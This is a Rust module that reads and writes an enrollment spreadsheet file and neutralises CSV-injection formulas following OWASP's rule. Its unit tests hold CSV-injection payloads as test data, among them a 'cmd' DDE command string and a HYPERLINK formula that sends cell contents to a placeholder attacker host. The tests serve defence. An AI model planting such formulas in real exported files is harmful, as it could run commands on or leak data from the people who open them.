//! The enrollment file as people and spreadsheets see it, shared by the import that reads it and
//! the export that writes it: its columns, how a funding source and programs are written, and
//! OWASP's CSV-injection rule (a cell a spreadsheet would run as a formula is written inert, and
//! read back exactly).
use std::borrow::Cow;
use std::io::{self, BufWriter, Write};

use sea_orm::ActiveEnum;

use crate::domain::coverage_period::Programs;
use crate::domain::types::FundingSource;

/// The columns of the file, in the order an export writes them.
pub const COLUMNS: [&str; 10] = [
    "nik",
    "full_name",
    "occupation",
    "district_code",
    "starts_on",
    "ends_on",
    "funding_source",
    "programs",
    "declared_monthly_income",
    "membership_number",
];

/// The full name of the template's example row: the import refuses a row named so (a template
/// sent back as it is registers nobody).
pub const EXAMPLE_NAME: &str = "CONTOH Budi Santoso (hapus baris ini)";

/// The file-format name of a funding source (the API's).
pub fn funding_source_name(source: FundingSource) -> String {
    match source {
        FundingSource::SelfFunded => "SELF".into(),
        other => other.to_value(),
    }
}

/// "JKK|JKM|JHT".
pub fn programs_text(programs: Programs) -> String {
    programs.list().iter().map(|p| p.to_value()).collect::<Vec<_>>().join("|")
}

/// What makes Excel, LibreOffice or Google Sheets read a cell as a formula (or, for a tab or a
/// carriage return, what they skip before looking for one): OWASP's list.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell, past any quotes it starts with, starts like a formula.
fn formula_behind_quotes(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// The cell as a spreadsheet will show it without running it: a `'` in front of one that starts
/// like a formula (spreadsheets read the rest as text). A cell that already has quotes before
/// such a character gets one more, so that `restore` can always take exactly one off: "'-x" (a
/// name stored with its quote) is written "''-x" and read back "'-x".
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if formula_behind_quotes(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell `neutralise` was given: the import's way back.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_behind_quotes(cell) => rest,
        _ => cell,
    }
}

/// A cell as a workbook holds it, and whether it starts like a formula. A text cell never runs,
/// so it is written as stored, with Excel's quote prefix (its format) when it starts like a
/// formula, so that it stays text when someone edits it; one that already has quotes before such
/// a character gets one more, as in CSV, so that the import's `restore` gives it back exactly.
pub fn for_workbook(cell: &str) -> (Cow<'_, str>, bool) {
    let formula_like = formula_behind_quotes(cell);
    if formula_like && cell.starts_with('\'') {
        (Cow::Owned(format!("'{cell}")), true)
    } else {
        (Cow::Borrowed(cell), formula_like)
    }
}

/// A CSV file for people (`,`-separated unless told otherwise, `\n`-terminated): every cell neutralised, and a
/// neutralised cell always in double quotes (OWASP), like one holding a delimiter (`,`, or the
/// `;` of spreadsheets set to Indonesian), a quote or a line break.
pub struct SheetWriter<W: Write> {
    out: BufWriter<W>,
    line: String,
    delimiter: char,
}

impl<W: Write> SheetWriter<W> {
    pub fn new(out: W) -> Self {
        SheetWriter::with_delimiter(out, ',')
    }

    /// `;` is the list separator of Excel set to Indonesian: such a file opens in columns there.
    pub fn with_delimiter(out: W, delimiter: char) -> Self {
        SheetWriter { out: BufWriter::with_capacity(1 << 16, out), line: String::new(), delimiter }
    }

    /// Writes bytes before the first row (a byte-order mark).
    pub fn preamble(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.out.write_all(bytes)
    }

    pub fn write_row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> io::Result<()> {
        self.line.clear();
        for (n, cell) in cells.into_iter().enumerate() {
            if n > 0 {
                self.line.push(self.delimiter);
            }
            let inert = neutralise(cell);
            let quoted = matches!(inert, Cow::Owned(_)) || inert.contains([',', ';', '"', '\n', '\r']);
            if quoted {
                self.line.push('"');
                self.line.push_str(&inert.replace('"', "\"\""));
                self.line.push('"');
            } else {
                self.line.push_str(&inert);
            }
        }
        self.line.push('\n');
        self.out.write_all(self.line.as_bytes())
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_made_inert_and_restored_exactly() {
        for (stored, written) in [
            ("=SUM(1+1)", "'=SUM(1+1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-Budi", "'-Budi"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'-x", "''-x"),
            ("''=x", "'''=x"),
            ("'Aisyah", "'Aisyah"),
            ("Budi-Santoso", "Budi-Santoso"),
            ("'", "'"),
            ("", ""),
        ] {
            assert_eq!(neutralise(stored), written, "{stored:?}");
            assert_eq!(restore(written), stored, "{written:?}");
        }
    }

    #[test]
    fn neutralised_cells_are_quoted() {
        let formula = r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#;
        let mut out = Vec::new();
        let mut sheet = SheetWriter::new(&mut out);
        sheet.write_row(["1", formula, "a,b", "a;b", "plain", ""]).unwrap();
        sheet.flush().unwrap();
        drop(sheet);
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text, "1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"klik\"\")\",\"a,b\",\"a;b\",plain,\n");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!((restore(&record[1]), &record[2], &record[5]), (formula, "a,b", ""));
    }

    #[test]
    fn workbook_cells_are_stored_values_with_a_quote_only_where_restore_takes_one() {
        for (stored, written, formula_like) in
            [("-Budi", "-Budi", true), ("'-x", "''-x", true), ("'Aisyah", "'Aisyah", false), ("Budi", "Budi", false)]
        {
            let (cell, like) = for_workbook(stored);
            assert_eq!((cell.as_ref(), like), (written, formula_like));
            assert_eq!(restore(&cell), stored);
        }
    }
}
